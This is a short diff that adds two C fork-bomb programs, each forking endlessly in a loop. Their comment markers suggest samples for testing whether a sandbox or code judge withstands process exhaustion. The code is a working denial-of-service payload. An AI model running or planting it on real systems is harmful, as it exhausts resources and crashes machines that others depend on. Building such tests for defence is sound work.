@@ -1,0 +1,6 @@
+//: fork bomb
+#include <unistd.h>
+int main() { while (true) fork(); } //!
+//: fork bomb by for
+#include <unistd.h>
+int main() { for (;;) { fork(); } } //!
